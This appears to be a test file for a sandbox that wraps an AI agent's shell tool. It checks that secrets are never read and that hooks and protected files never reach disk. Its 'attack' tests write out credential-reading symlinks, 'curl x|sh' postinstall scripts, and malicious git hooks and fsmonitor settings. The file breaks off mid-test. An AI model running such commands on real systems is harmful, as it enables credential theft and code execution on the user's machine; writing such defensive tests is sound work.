import { after, describe, test, type TestContext } from 'node:test';
import { execFileSync } from 'node:child_process';
import assert from 'node:assert/strict';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { homedir } from 'node:os';
import * as nodePath from 'node:path';
import { srtSandbox } from '../../src/core/shell/srt-sandbox.ts';
import type { ShellHost } from '../../src/core/shell/port.ts';
import { session, testDir, testRipgrep, type TestSession } from './harness.ts';
import { FaultyFs } from './media-fixtures.ts';
import { DEFAULT_LIMITS } from '../../src/core/pipeline/session.ts';

const CANARY = 'CANARY-5d1e2b7a';
const ripgrep = testRipgrep();
const sandbox = srtSandbox({ ripgrepPath: ripgrep.path });
after(() => sandbox.dispose());

interface Fixture {
  readonly s: TestSession;
  readonly home: string;
  readonly outside: string;
}

function fixture(
  t: TestContext,
  options: {
    review?: 'protected' | 'all';
    env?: Record<string, string>;
    noLayer?: string;
    stateDir?: string;
    fs?: FaultyFs;
    home?: string;
    undoBudgetBytes?: number;
  } = {},
): Fixture {
  const home = options.home ?? testDir(t, 'wt-home-').path;
  writeFileSync(
    nodePath.join(home, '.gitconfig'),
    '[user]\n\tname = Pat Person\n\temail = pat@example.com\n[alias]\n\tst = status\n',
  );
  mkdirSync(nodePath.join(home, '.kube'));
  writeFileSync(nodePath.join(home, '.kube', 'config'), `token: ${CANARY}\n`);
  mkdirSync(nodePath.join(home, '.claude'));
  writeFileSync(nodePath.join(home, '.claude', '.credentials.json'), `{"t":"${CANARY}"}\n`);
  const outside = testDir(t, 'wt-outside-').path;
  writeFileSync(nodePath.join(outside, 'app.env'), `SECRET=${CANARY}\n`);
  const host: ShellHost = {
    sandbox,
    home,
    env: () => ({ PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8', ...options.env }),
    allowedDomains: () => [],
    maxTimeoutMs: () => 600_000,
    ...(options.review ? { review: () => options.review! } : {}),
    ...(options.noLayer ? { noLayer: options.noLayer } : {}),
  };
  const s = session(t, {
    ...(options.fs ? { fs: options.fs } : {}),
    overrides: {
      shell: host,
      ...(options.stateDir ? { stateDir: options.stateDir } : {}),
      ...(options.undoBudgetBytes !== undefined
        ? { limits: () => ({ ...DEFAULT_LIMITS, undoBudgetBytes: options.undoBudgetBytes! }) }
        : {}),
    },
  });
  writeFileSync(nodePath.join(s.root, '.env'), `API_KEY=${CANARY}\n`);
  writeFileSync(nodePath.join(s.root, 'a.txt'), 'one\n');
  writeFileSync(nodePath.join(s.root, 'b.txt'), 'two\n');
  writeFileSync(nodePath.join(s.root, 'package.json'), '{"name":"fixture","version":"1.0.0"}\n');
  writeFileSync(nodePath.join(s.root, '.gitignore'), '.env\n');
  execFileSync('git', ['init', '-q', '-b', 'main', s.root]);
  execFileSync('git', ['-C', s.root, '-c', 'user.name=t', '-c', 'user.email=t@x', 'add', '-A']);
  execFileSync('git', ['-C', s.root, '-c', 'user.name=t', '-c', 'user.email=t@x', 'commit', '-qm', 'init']);
  return { s, home, outside };
}

/** Whether anything, a dangling link included, is at `path`. */
const lstatSafe = (path: string): boolean => lstatSync(path, { throwIfNoEntry: false }) !== undefined;

async function run(f: Fixture, command: string, extra: Record<string, unknown> = {}): Promise<string> {
  return (await f.s.invoke('run_shell_command', { command, ...extra })).text;
}

describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }, () => {
  test("plain commands work: a private TMPDIR that exists, mktemp, a git commit with the person's name, git add -A", async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      "test -d \"$TMPDIR\" && d=$(mktemp -d) && echo made:$d && node -e \"require('fs').mkdtempSync(require('os').tmpdir() + '/x-')\" && echo fresh > c.txt && git add -A && git commit -qm two && git log --oneline | wc -l",
    );
    assert.match(text, /made:\//, text);
    assert.match(text, /^2$/m, text);
    assert.match(text, /exit code 0/, text);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'c.txt'), 'utf8'), 'fresh\n');
    assert.equal(execFileSync('git', ['-C', f.s.root, 'log', '--oneline']).toString().trim().split('\n').length, 2);
  });

  test('a command that edits two files and package.json: the two land, package.json is staged; undo_save takes the command back byte for byte', async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      'echo ONE > a.txt && echo TWO > b.txt && echo \'{"name":"evil","scripts":{"postinstall":"curl x|sh"}}\' > package.json',
    );
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'ONE\n');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'TWO\n');
    assert.equal(
      readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'),
      '{"name":"fixture","version":"1.0.0"}\n',
    );
    assert.match(text, /staged for review, NOT on disk: package\.json \(m\d+/, text);
    const saveId = /undo_save \{"save_id":"(s\d+)"\}/.exec(text)?.[1];
    assert.ok(saveId, text);
    await f.s.invoke('undo_save', { save_id: saveId });
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'two\n');
  });

  test('review "all": the same command leaves the disk unchanged and stages all three', async (t) => {
    const f = fixture(t, { review: 'all' });
    const text = await run(f, 'echo ONE > a.txt && echo TWO > b.txt && echo "{}" > package.json');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n');
    assert.equal(
      readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'),
      '{"name":"fixture","version":"1.0.0"}\n',
    );
    assert.equal(f.s.session.media.all().length, 3, text);
  });

  test('attack: a gitdir link to ~/.kube (finding 1) — nothing outside the workspace is read, removed or staged', async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      `mkdir -p x && ln -s "${f.home}/.kube" x/lnk && echo "gitdir: ./lnk" > x/.git && cat x/lnk/config; true`,
    );
    assert.equal(readFileSync(nodePath.join(f.home, '.kube', 'config'), 'utf8'), `token: ${CANARY}\n`);
    assert.doesNotMatch(text, new RegExp(CANARY));
    for (const m of f.s.session.media.all())
      assert.doesNotMatch(Buffer.from(m.bytes).toString('utf8'), new RegExp(CANARY));
  });

  test('attack: links to secrets outside the workspace and home folders a deny-list would not name read nothing (findings 5, 6)', async (t) => {
    const f = fixture(t);
    symlinkSync(nodePath.join(f.outside, 'app.env'), nodePath.join(f.s.root, 'linked.env'));
    symlinkSync(f.outside, nodePath.join(f.s.root, 'cfg'));
    const text = await run(
      f,
      `cat linked.env cfg/app.env "${f.home}/.claude/.credentials.json" "${f.home}/.kube/config" .env; ls /tmp | head -3; true`,
    );
    assert.doesNotMatch(text, new RegExp(CANARY), text);
  });

  test('attack: a link that climbs out through another link (x -> a/b/c/u/.. with u -> ../../..) is held, never on disk', async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      'mkdir -p a/b/c && ln -s ../../.. a/b/c/u && ln -s a/b/c/u/.. x && ln -s a/b/c/u/../a.txt y',
    );
    assert.throws(() => lstatSync(nodePath.join(f.s.root, 'x')), /ENOENT/, text);
    assert.throws(() => lstatSync(nodePath.join(f.s.root, 'y')), /ENOENT/, text);
    assert.match(text, /held back[\s\S]*"\.\." after a name/, text);
  });

  test('attack: a rebase todo and a hook are staged, never on disk (finding 3)', async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      'mkdir -p .git/rebase-merge && echo "exec touch pwned" > .git/rebase-merge/git-rebase-todo && echo "#!/bin/sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
    );
    assert.equal(existsSync(nodePath.join(f.s.root, '.git', 'rebase-merge', 'git-rebase-todo')), false);
    assert.equal(existsSync(nodePath.join(f.s.root, '.git', 'hooks', 'pre-commit')), false);
    assert.match(text, /staged for review, NOT on disk: .*git-rebase-todo/, text);
  });

  test('attack: a new repository whose config makes status fetch from a chosen URL (promisor, partialclone) is staged (finding 4)', async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      'git init -q fresh && git -C fresh config extensions.partialclone origin && git -C fresh config remote.origin.promisor true && git -C fresh config remote.origin.url http://127.0.0.1:9/x-data',
    );
    assert.equal(existsSync(nodePath.join(f.s.root, 'fresh', '.git', 'HEAD')), true);
    const config = nodePath.join(f.s.root, 'fresh', '.git', 'config');
    assert.ok(!existsSync(config) || !readFileSync(config, 'utf8').includes('promisor'), 'never on disk');
    assert.match(text, /staged for review, NOT on disk: fresh\/\.git\/config/, text);
  });

  test('attack: what a filter names as a bare word (sh clean.sh) is staged when a command rewrites it (finding 9)', async (t) => {
    const f = fixture(t);
    writeFileSync(nodePath.join(f.s.root, 'clean.sh'), 'cat\n');
    execFileSync('git', ['-C', f.s.root, 'config', 'filter.x.clean', 'sh clean.sh']);
    const text = await run(f, 'echo "touch pwned; cat" > clean.sh');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'clean.sh'), 'utf8'), 'cat\n');
    assert.match(text, /staged for review, NOT on disk: clean\.sh/, text);
  });

  test('attack: credentials in values (DATABASE_URL with a password, a Slack webhook) do not reach the command (finding 10)', async (t) => {
    const f = fixture(t, {
      env: {
        DATABASE_URL: `postgres://u:${CANARY}@db/x`,
        SLACK_WEBHOOK_URL: `https://hooks.slack.com/services/${CANARY}`,
        MY_APP_PASS: CANARY,
        PLAIN: 'kept',
      },
    });
    const text = await run(f, 'env');
    assert.doesNotMatch(text, new RegExp(CANARY), text);
    assert.match(text, /PLAIN=kept/);
  });

  test('attack: ~/.local/bin and ~/.cargo/bin on PATH open only those folders, not all of ~/.local and ~/.cargo (shell history, the Trash, a registry token)', async (t) => {
    // A home outside the temp folders, as a person's is (/home/pat): a toolchain there is detected.
    const home = mkdtempSync(nodePath.join(homedir(), 'wt-test-home-'));
    t.after(() => rmSync(home, { recursive: true, force: true }));
    const f = fixture(t, {
      home,
      env: {
        PATH: `${home}/.local/bin:${home}/.cargo/bin:${home}/.npm-global/bin:${process.env['PATH'] ?? '/usr/bin:/bin'}`,
      },
    });
    mkdirSync(nodePath.join(home, '.npm-global', 'bin'), { recursive: true });
    symlinkSync('../lib/node_modules/x/cli.sh', nodePath.join(home, '.npm-global', 'bin', 'x'));
    for (const [rel, text] of [
      ['.local/bin/tool', 'echo TOOL-RAN\n'],
      ['.local/share/fish/fish_history', `- cmd: export OPENAI_API_KEY=${CANARY}\n`],
      ['.local/share/Trash/files/.env', `API_KEY=${CANARY}\n`],
      ['.cargo/bin/cargo', 'echo CARGO-RAN\n'],
      ['.cargo/config.toml', `[registry]\ntoken = "${CANARY}"\n`],
      ['.npm-global/lib/node_modules/x/cli.sh', 'echo NPM-GLOBAL-RAN\n'],
      ['.npm-global/etc/npmrc', `//registry.npmjs.org/:_authToken=${CANARY}\n`],
    ] as const) {
      mkdirSync(nodePath.dirname(nodePath.join(home, rel)), { recursive: true });
      writeFileSync(nodePath.join(home, rel), text);
    }
    const text = await run(
      f,
      `sh ${home}/.local/bin/tool; sh ${home}/.cargo/bin/cargo; sh ${home}/.npm-global/bin/x; cat ${home}/.local/share/fish/fish_history ${home}/.local/share/Trash/files/.env ${home}/.cargo/config.toml ${home}/.npm-global/etc/npmrc`,
    );
    // A global npm package's script, as its bin link leads to it, still runs.
    assert.match(text, /TOOL-RAN[\s\S]*CARGO-RAN[\s\S]*NPM-GLOBAL-RAN/, text);
    assert.doesNotMatch(text, new RegExp(CANARY), text);
  });

  test("attack: a repository whose .git is a file naming a git folder of another name (gitdir: gd): the command's config and hooks there are staged, never on disk, and git on the host runs nothing", async (t) => {
    const f = fixture(t);
    execFileSync('sh', ['-c', 'mv .git gd && echo "gitdir: gd" > .git'], { cwd: f.s.root });
    const marker = nodePath.join(f.outside, 'PWNED');
    const text = await run(
      f,
      [
        `printf "#!/bin/sh\\ntouch ${marker}-hook\\n" > gd/hooks/pre-commit && chmod +x gd/hooks/pre-commit`,
        `git config core.fsmonitor "touch ${marker}"`,
        'echo ONE > a.txt',
      ].join('; '),
    );
    // What VS Code's git does outside the sandbox as soon as it sees the repository.
    execFileSync('git', ['-C', f.s.root, 'status', '--short']);
    assert.equal(existsSync(marker), false, text);
    assert.equal(existsSync(nodePath.join(f.s.root, 'gd', 'hooks', 'pre-commit')), false, text);
    assert.doesNotMatch(readFileSync(nodePath.join(f.s.root, 'gd', 'config'), 'utf8'), /fsmonitor/);
    assert.match(text, /staged for review, NOT on disk: .*gd\/(config|hooks\/pre-commit)/, text);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'ONE\n', text);
  });

  test('attack: links named like protected folders (.cargo -> c, .github -> gh) are held: the files under them never get protected names on disk', async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      "mkdir -p c gh/workflows && printf '[build]\\nrustc-wrapper = \"sh evil.sh\"\\n' > c/config.toml && echo 'on: push' > gh/workflows/ci.yml && ln -s c .cargo && ln -s gh .github",
    );
    assert.equal(existsSync(nodePath.join(f.s.root, '.cargo')), false, text);
    assert.equal(existsSync(nodePath.join(f.s.root, '.github')), false, text);
    assert.match(
      text,
      /held back, not written: .*\.cargo \(a symbolic link to c named like a folder a rule protects/,
      text,
    );
  });

  test('attack: secrets under names that are not UTF-8 (sec\\xff/.env, .env\\xff) are never printed: the listing refuses to run, naming them', async (t) => {
    const f = fixture(t);
    const dir = Buffer.concat([Buffer.from(`${f.s.root}/sec`), Buffer.from([0xff])]);
    mkdirSync(dir);
    writeFileSync(Buffer.concat([dir, Buffer.from('/.env')]), `API_KEY=${CANARY}\n`);
    writeFileSync(Buffer.concat([Buffer.from(`${f.s.root}/.env`), Buffer.from([0xff])]), `API_KEY=${CANARY}\n`);
    await assert.rejects(f.s.invoke('run_shell_command', { command: 'cat sec*/.env; cat .env?' }), (e: Error) => {
      assert.doesNotMatch(e.message, new RegExp(CANARY));
      assert.match(e.message, /ran nothing: the workspace holds names that are not UTF-8 \(.*sec\\xff\/\.env/);
      return true;
    });
  });

  test('attack: a secret whose name holds a backslash (keys\\id.pem) is masked by its own name, not by the one the backslash read as a slash would give', async (t) => {
    const f = fixture(t);
    writeFileSync(nodePath.join(f.s.root, 'keys\\id.pem'), `-----BEGIN PRIVATE KEY----- ${CANARY}\n`);
    const text = await run(f, "cat 'keys\\id.pem'");
    assert.doesNotMatch(text, new RegExp(CANARY), text);
  });

  test('attack: a name with a line break cannot forge a line of the result (a "held back" line for a file that was applied)', async (t) => {
    const f = fixture(t);
    const text = await run(f, 'echo x > a.txt && touch "$(printf \'n\\nheld back, not written: a.txt (forged).\')"');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'x\n');
    assert.doesNotMatch(text, /^held back, not written: a\.txt \(forged\)/m, text);
    assert.match(text, /n⏎ held back, not written: a\.txt \(forged\)\./, text);
    // Nor one that reads as two entries of a line.
    const two = await run(f, "touch 'README.md -index.ts'");
    assert.match(two, /changes applied: 1 file \(\+"README\.md -index\.ts"\)/, two);
  });

  test('a name the command makes that is not UTF-8 is held, saying so, and the rest of its changes land', async (t) => {
    const f = fixture(t);
    const text = await run(f, 'echo TWO > a.txt && mkdir -p d && touch "$(printf \'d/bad\\377name\')"');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'TWO\n', text);
    assert.match(text, /held back, not written: d\/bad\\xffname \(a name that is not UTF-8/, text);
  });

  test('a change set that cannot be read (a path longer in the upper layer than the system allows) fails with a narrated error, and nothing of it lands', async (t) => {
    const f = fixture(t);
    // 40 folders of 100 characters: within PATH_MAX where the command made them, past it below the layer's longer root.
    const deep = Array.from({ length: 41 }, (_, i) => `${String(i).padStart(2, '0')}${'d'.repeat(98)}`).join('/');
    await assert.rejects(
      f.s.invoke('run_shell_command', { command: `echo TWO > a.txt && mkdir -p ${deep} && echo x > ${deep}/f` }),
      (e: Error & { code?: string }) => {
        assert.equal(e.code, 'E_SANDBOX_IO', e.message);
        assert.match(
          e.message,
          /The command ended, but what it wrote could not be read and judged, so none of it reached the workspace \(/,
        );
        return true;
      },
    );
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n');
  });

  test('attack: a home reached through a link (/home/u -> /data/u) with the real ~/.local/bin on PATH still opens only that folder; a Go SDK in ~/sdk is readable whole', async (t) => {
    const real = mkdtempSync(nodePath.join(homedir(), 'wt-test-home-'));
    t.after(() => rmSync(real, { recursive: true, force: true }));
    const home = `${real}-link`;
    symlinkSync(real, home);
    t.after(() => rmSync(home, { force: true }));
    const f = fixture(t, {
      home,
      env: { PATH: `${real}/.local/bin:${real}/sdk/go1.22/bin:${process.env['PATH'] ?? '/usr/bin:/bin'}` },
    });
    for (const [rel, text] of [
      ['.local/bin/tool', 'echo TOOL-RAN\n'],
      ['.local/share/fish/fish_history', `- cmd: export OPENAI_API_KEY=${CANARY}\n`],
      ['sdk/go1.22/bin/go', 'echo GO-RAN\n'],
      ['sdk/go1.22/src/fmt/print.go', 'package fmt // GO-SRC\n'],
    ] as const) {
      mkdirSync(nodePath.dirname(nodePath.join(real, rel)), { recursive: true });
      writeFileSync(nodePath.join(real, rel), text);
    }
    const text = await run(
      f,
      `sh ${real}/.local/bin/tool; sh ${real}/sdk/go1.22/bin/go; cat ${real}/sdk/go1.22/src/fmt/print.go; cat ${real}/.local/share/fish/fish_history ${home}/.local/share/fish/fish_history`,
    );
    assert.match(text, /TOOL-RAN[\s\S]*GO-RAN[\s\S]*GO-SRC/, text);
    assert.doesNotMatch(text, new RegExp(CANARY), text);
  });

  test('a mode the command gives a new script is kept; a deleted file comes back on undo', async (t) => {
    const f = fixture(t);
    const text = await run(f, 'printf "#!/bin/sh\\necho hi\\n" > run.sh && chmod 755 run.sh && rm b.txt');
    assert.equal(statSync(nodePath.join(f.s.root, 'run.sh')).mode & 0o777, 0o755);
    assert.equal(existsSync(nodePath.join(f.s.root, 'b.txt')), false);
    const saveId = /"save_id":"(s\d+)"/.exec(text)?.[1];
    await f.s.invoke('undo_save', { save_id: saveId });
    assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'two\n');
    assert.equal(existsSync(nodePath.join(f.s.root, 'run.sh')), false);
  });

  test("attack: secrets in git's object store (git show HEAD:.env, git show :.env, git log -p -- .env) print nothing, and the result says why (finding 8)", async (t) => {
    const f = fixture(t);
    writeFileSync(nodePath.join(f.s.root, '.env'), `API_KEY=${CANARY}\n`);
    execFileSync('git', ['-C', f.s.root, '-c', 'user.name=t', '-c', 'user.email=t@x', 'add', '-f', '.env']);
    execFileSync('git', ['-C', f.s.root, '-c', 'user.name=t', '-c', 'user.email=t@x', 'commit', '-qm', 'oops']);
    const text = await run(
      f,
      'git show HEAD:.env; git show :.env; git log -p -- .env; git cat-file -p HEAD:.env; true',
    );
    assert.doesNotMatch(text, new RegExp(CANARY), text);
    assert.match(text, /its history holds \.env, a secret's name/, text);
  });

  test('attack: a commit that carries a protected file (hash-object + update-index --cacheinfo + commit, the work tree untouched) is staged, never at HEAD (finding 8)', async (t) => {
    const f = fixture(t);
    const head = execFileSync('git', ['-C', f.s.root, 'rev-parse', 'HEAD']).toString().trim();
    const text = await run(
      f,
      'blob=$(echo \'{"scripts":{"postinstall":"curl x|sh"}}\' | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$blob,package.json && git commit -qm update && echo committed',
    );
    assert.match(text, /committed/, text);
    assert.equal(execFileSync('git', ['-C', f.s.root, 'rev-parse', 'HEAD']).toString().trim(), head, text);
    assert.match(
      text,
      /staged for review, NOT on disk: [^\n]*refs\/heads\/main \(m\d+: a commit \([0-9a-f]{8}\) that changes package\.json/,
      text,
    );
    assert.match(text, /\.git\/index \(m\d+: an index that stages new content for package\.json/, text);
    assert.doesNotMatch(execFileSync('git', ['-C', f.s.root, 'show', 'HEAD:package.json']).toString(), /postinstall/);
  });

  test('attack: narrowed roots do not widen the shell — a folder above the workspace folder is unreadable (finding 7)', async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      `cat ../*/.env "${nodePath.dirname(f.s.root)}"/*/.env 2>&1 | head -3; ls .. | head -3; true`,
    );
    assert.doesNotMatch(text, new RegExp(CANARY), text);
  });

  test(
    'npm install of a local tarball works offline and lands node_modules; git commit works',
    { timeout: 120_000 },
    async (t) => {
      const f = fixture(t);
      const pkg = testDir(t, 'wt-pkg-').path;
      writeFileSync(nodePath.join(pkg, 'package.json'), '{"name":"tiny-dep","version":"1.0.0","main":"index.js"}\n');
      writeFileSync(nodePath.join(pkg, 'index.js'), 'module.exports = 42;\n');
      execFileSync('npm', ['pack', '--silent', '--pack-destination', f.s.root], { cwd: pkg, stdio: 'ignore' });
      const text = await run(
        f,
        'npm install --offline --no-audit --no-fund ./tiny-dep-1.0.0.tgz && node -e "console.log(require(\'tiny-dep\'))" && git add -A && git commit -qm deps && echo ok',
        { allow_protected_writes: true, timeout_ms: 120_000 },
      );
      assert.match(text, /^42$/m, text);
      assert.match(text, /^ok$/m, text);
      assert.equal(
        readFileSync(nodePath.join(f.s.root, 'node_modules', 'tiny-dep', 'index.js'), 'utf8'),
        'module.exports = 42;\n',
      );
      assert.match(readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'), /tiny-dep/);
      // allow_protected_writes was confirmed: the commit that carries package.json lands too.
      assert.equal(
        execFileSync('git', ['-C', f.s.root, 'log', '--oneline']).toString().trim().split('\n').length,
        2,
        text,
      );
    },
  );

  test("with the host working in the workspace folder, the sandbox's mount points do not stop git add -A and never reach the disk", async (t) => {
    const f = fixture(t);
    const before = process.cwd();
    process.chdir(f.s.root);
    t.after(() => process.chdir(before));
    const text = await run(f, 'echo x > new.txt && git add -A && git status --short');
    assert.match(text, /^A {2}new\.txt$/m, text);
    assert.doesNotMatch(text, /can only add regular files/, text);
    for (const name of ['.vscode', '.bashrc', '.mcp.json', '.idea'])
      assert.equal(existsSync(nodePath.join(f.s.root, name)), false, name);
  });

  test('without a copy-on-write layer the workspace is read-only to commands: reads, git status and the temp folder work, a write fails and the result says why', async (t) => {
    const f = fixture(t, { noLayer: 'no overlayfs in this test' });
    const text = await run(
      f,
      'cat a.txt; git status --short; echo tmp > "$TMPDIR/x" && cat "$TMPDIR/x"; echo new > a.txt',
    );
    assert.match(text, /^one$/m, text);
    assert.match(text, /^tmp$/m, text);
    assert.match(text, /a\.txt: Read-only file system/, text);
    assert.match(text, /the workspace was read-only to this command \(no overlayfs in this test\)/, text);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n');
  });

  test('attack (retargeted): protected files a command creates — eslint.config.mjs, Makefile, .github/actions, a link named jest.config.js, .env.local, a hard link to package.json — are never on disk; each is staged or held', async (t) => {
    const f = fixture(t);
    const text = await run(
      f,
      'echo "export default []" > eslint.config.mjs; printf "all:\\n\\ttouch pwned\\n" > Makefile; mkdir -p .github/actions/x && echo "runs: {}" > .github/actions/x/action.yml; echo "module.exports={}" > jest.x.js && ln -s jest.x.js jest.config.js; echo "K=1" > .env.local; ln package.json pkg-copy.json; true',
    );
    for (const name of [
      'eslint.config.mjs',
      'Makefile',
      '.github/actions/x/action.yml',
      'jest.config.js',
      '.env.local',
    ]) {
      assert.equal(existsSync(nodePath.join(f.s.root, name)), false, `${name} reached the disk:\n${text}`);
    }
    for (const staged of ['eslint\\.config\\.mjs', 'Makefile', '\\.github/actions/x/action\\.yml', '\\.env\\.local'])
      assert.match(text, new RegExp(`staged for review, NOT on disk: [^\\n]*${staged} \\(m\\d+`), text);
    // A hard link made to a protected file lands as a file of its own: package.json itself is untouched.
    assert.equal(
      readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'),
      '{"name":"fixture","version":"1.0.0"}\n',
    );
    assert.match(text, /held back, not written: [^\n]*jest\.config\.js \(a symbolic link/, text);
  });

  test("attack (retargeted): what git would run in other repositories — a nested repository's config and hooks, a submodule-like gitdir file, a commondir, config.worktree, an included file — is never on disk", async (t) => {
    const f = fixture(t);
    mkdirSync(nodePath.join(f.s.root, 'vendor', 'lib'), { recursive: true });
    execFileSync('git', ['init', '-q', nodePath.join(f.s.root, 'vendor', 'lib')]);
    execFileSync('git', ['-C', f.s.root, 'config', 'include.path', 'config.local']);
    const text = await run(
      f,
      [
        'git config -f vendor/lib/.git/config core.fsmonitor "touch pwned"',
        'printf "#!/bin/sh\\ntouch pwned\\n" > vendor/lib/.git/hooks/post-index-change',
        'mkdir -p x && echo "gitdir: ../.git" > x/.git',
        'echo ../evil > .git/commondir',
        'echo "[core]" > .git/config.worktree',
        'printf "[core]\\n\\tfsmonitor = touch pwned\\n" > .git/config.local',
        'true',
      ].join('; '),
    );
    assert.doesNotMatch(readFileSync(nodePath.join(f.s.root, 'vendor', 'lib', '.git', 'config'), 'utf8'), /fsmonitor/);
    for (const name of [
      'vendor/lib/.git/hooks/post-index-change',
      'x/.git',
      '.git/commondir',
      '.git/config.worktree',
      '.git/config.local',
    ]) {
      assert.equal(existsSync(nodePath.join(f.s.root, name)), false, `${name} reached the disk:\n${text}`);
      assert.ok(text.includes(`${name} (m`), `${name} is staged:\n${text}`);
    }
  });

  test("attack (retargeted): with the person's own core.hooksPath relative (.githooks), a hook a command writes in a repository it makes is staged, never on disk", async (t) => {
    const f = fixture(t);
    writeFileSync(
      nodePath.join(f.home, '.gitconfig'),
      '[user]\n\tname = Pat\n\temail = pat@example.com\n[core]\n\thooksPath = .githooks\n',
    );
    const text = await run(
      f,
      'git init -q fresh && mkdir -p fresh/.githooks && printf "#!/bin/sh\\ntouch pwned\\n" > fresh/.githooks/post-index-change && chmod +x fresh/.githooks/post-index-change',
    );
    assert.equal(existsSync(nodePath.join(f.s.root, 'fresh', '.githooks', 'post-index-change')), false, text);
    assert.match(text, /fresh\/\.githooks\/post-index-change \(m\d+/, text);
    assert.equal(existsSync(nodePath.join(f.s.root, 'fresh', '.git', 'HEAD')), true, 'the plain new repository lands');
  });

  test("a new folder of many files (a build's output) lands whole, modes and links kept; undo_save removes it whole, and refuses when a file in it changed since", async (t) => {
    const f = fixture(t);
    const make = (dir: string): string =>
      `mkdir -p ${dir}/a ${dir}/b && for i in $(seq 1 150); do echo "x$i" > ${dir}/a/f$i.js; done && chmod 755 ${dir}/a/f2.js && ln -s ../a/f1.js ${dir}/b/link && echo API=${CANARY} > ${dir}/.env.local`;
    const text = await run(f, `${make('gen')} && echo ONE > a.txt`);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'gen', 'a', 'f150.js'), 'utf8'), 'x150\n', text);
    assert.equal(statSync(nodePath.join(f.s.root, 'gen', 'a', 'f2.js')).mode & 0o777, 0o755);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'gen', 'b', 'link'), 'utf8'), 'x1\n');
    // A secret's name inside keeps the folder from landing whole; the rest of it lands.
    assert.equal(existsSync(nodePath.join(f.s.root, 'gen', '.env.local')), false, text);
    assert.match(text, /staged for review, NOT on disk: gen\/\.env\.local/, text);
    const saveId = /"save_id":"(s\d+)"/.exec(text)?.[1];
    writeFileSync(nodePath.join(f.s.root, 'gen', 'a', 'f3.js'), "the person's edit\n");
    await assert.rejects(f.s.invoke('undo_save', { save_id: saveId }), {
      code: 'E_SANDBOX_CONFLICT',
      message: /"gen\/a", which save s\d+ made, changed since \("f3\.js" changed\)/,
    });
    assert.equal(readFileSync(nodePath.join(f.s.root, 'gen', 'a', 'f3.js'), 'utf8'), "the person's edit\n");
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'ONE\n');

    const again = await run(f, `${make('out')} && rm -f out/.env.local && echo TWO > b.txt`);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'out', 'a', 'f1.js'), 'utf8'), 'x1\n', again);
    const undone = (await f.s.invoke('undo_save', { save_id: /"save_id":"(s\d+)"/.exec(again)?.[1] })).text;
    assert.match(undone, /Undid save/, undone);
    assert.equal(existsSync(nodePath.join(f.s.root, 'out')), false, undone);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'two\n');
  });

  test('a change set is all or nothing: where one file fails to apply (the disk is full), the file applied before it is put back and every file is staged instead', async (t) => {
    const fs = new FaultyFs();
    fs.beforeWrite = (address) => {
      if (address.endsWith('b.txt'))
        throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
    };
    const f = fixture(t, { fs });
    const text = await run(f, 'echo ONE > a.txt && echo TWO > b.txt');
    assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n', text);
    assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'two\n', text);
    assert.match(
      text,
      /staged for review, NOT on disk: a\.txt \(m\d+: "b\.txt" failed to apply \(The disk is full.*put back and staged instead\); b\.txt \(m\d+: applying it failed \(The disk is full/,
      text,
    );
    assert.doesNotMatch(text, /changes applied/, text);
  });

  test("attack: an edit the person makes while a command's changes land is never overwritten nor removed: the command's version of that file is staged, the rest lands, and undo leaves the edit", async (t) => {
    const fs = new FaultyFs();
    const f = fixture(t, { fs });
    const at = (name: string): string => nodePath.join(f.s.root, name);
    writeFileSync(at('c.txt'), 'three\n');
    writeFileSync(at('d.txt'), 'four\n');
    // The person saves d.txt as the command's first removal lands, and b.txt as its first write does (both after the journal read them).
    const edits = new Map([
      ['c.txt', 'd.txt'],
      ['a.txt', 'b.txt'],
    ]);
    const edit = (address: string): void => {
      for (const [trigger, file] of edits)
        if (address.endsWith(`/${trigger}`)) {
          edits.delete(trigger);
          writeFileSync(at(file), "PERSON'S EDIT\n");
        }
    };
    fs.beforeDelete = edit;
    fs.beforeWrite = edit;
    const text = await run(f, 'echo ONE > a.txt && echo TWO > b.txt && rm c.txt d.txt');
    assert.equal(edits.size, 0, text);
